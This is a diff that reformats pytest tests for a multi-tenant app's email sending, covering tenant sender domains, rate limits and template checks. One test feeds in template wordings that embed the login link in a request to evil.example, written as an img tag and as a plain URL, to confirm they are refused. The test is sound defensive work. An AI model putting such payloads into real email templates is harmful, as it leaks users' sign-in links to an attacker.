@@ -41,8 +41,12 @@ def mailed(program: Program, person: str = "bob") -> Any:
     ],
 )
 @pytest.mark.parametrize("role", ["owner", "admin"])
-def test_a_tenant_sends_from_its_own_domains(acme: Tenant, door: Doors, mail_server: MailServer, role: str, sender: str, seen: str) -> None:
-    """Any other address is where answers go, and the operator is the sender; a domain that only waits for approval is none."""
+def test_a_tenant_sends_from_its_own_domains(
+    acme: Tenant, door: Doors, mail_server: MailServer, role: str, sender: str, seen: str
+) -> None:
+    """Any other address is where answers go, and the operator is the sender; a domain that only waits for
+    approval is none.
+    """
     program = Program(mint(role))
     wanted = {"mail_from": sender, "domains": ["acme.test", "*.acme.test", "login.acme.example"]}
     assert program("PATCH", "branding", wanted).status_code == 200
@@ -57,7 +61,9 @@ def test_a_tenant_sends_from_its_own_domains(acme: Tenant, door: Doors, mail_ser
 def test_whoever_looks_after_the_installation_grants_a_sender(
     acme: Tenant, mail_server: MailServer, write_blueprint: Callable[..., Path]
 ) -> None:
-    """A file that names it, also one that was asked for before; and another one asked for later is not granted with it."""
+    """A file that names it, also one that was asked for before; and another one asked for later is not
+    granted with it.
+    """
     program, file = Program(mint("admin")), write_blueprint("tenant: acme\nmail_from: login@acme.example\n")
     program("PATCH", "branding", {"mail_from": "login@acme.example"})
     assert [apply([file]).counts["update"] for _ in range(2)] == [1, 0]
@@ -77,7 +83,9 @@ def test_whoever_looks_after_the_installation_grants_a_sender(
     assert mail_server.mails[-1].sender == "login@acme.example"
 
 
-def test_the_owner_of_the_installation_sends_from_anywhere(tenants: dict[str, Tenant], mail_server: MailServer, settings: Any) -> None:
+def test_the_owner_of_the_installation_sends_from_anywhere(
+    tenants: dict[str, Tenant], mail_server: MailServer, settings: Any
+) -> None:
     """Their own tenant is the installation."""
     with tenant_scope(installed()):
         Person.objects.create(username="bob", email="bob@acme.test")
@@ -94,8 +102,12 @@ def test_the_owner_of_the_installation_sends_from_anywhere(tenants: dict[str, Te
     assert seen == ["login@foyer.example", "foyer@localhost", "login@mail.foyer.example"]
 
 
-def test_three_mails_an_hour_to_one_address(acme: Tenant, other: Tenant, door: Doors, clock: time_machine.Traveller) -> None:
-    """The fourth is refused with the time to wait, by every door; an older link stays good, and another tenant counts for itself."""
+def test_three_mails_an_hour_to_one_address(
+    acme: Tenant, other: Tenant, door: Doors, clock: time_machine.Traveller
+) -> None:
+    """The fourth is refused with the time to wait, by every door; an older link stays good, and another
+    tenant counts for itself.
+    """
     program = Program(mint("admin"))
     assert [mailed(program).status_code for _ in range(4)] == [200, 200, 200, 429]
     assert 3000 < int(mailed(program)["Retry-After"]) <= 3600
@@ -123,10 +135,18 @@ def test_so_many_mails_a_day_from_one_tenant(acme: Tenant, settings: Any) -> Non
 
 
 @pytest.mark.parametrize(
-    "wording", [{"html": '<img src="https://evil.example/?u={{ link }}">'}, {"text": "https://evil.example/?u={{ link }}"}]
+    "wording",
+    [
+        {"html": '<img src="https://evil.example/?u={{ link }}">'},
+        {"text": "https://evil.example/?u={{ link }}"},
+    ],
 )
 def test_no_door_takes_a_wording_that_gives_the_link_away(
-    acme: Tenant, door: Doors, mail_server: MailServer, write_blueprint: Callable[..., Path], wording: dict[str, str]
+    acme: Tenant,
+    door: Doors,
+    mail_server: MailServer,
+    write_blueprint: Callable[..., Path],
+    wording: dict[str, str],
 ) -> None:
     """API, console and blueprint refuse it; one that was stored before is not sent, the shipped one is."""
     program, bad = Program(mint("admin")), {**OWN, **wording}
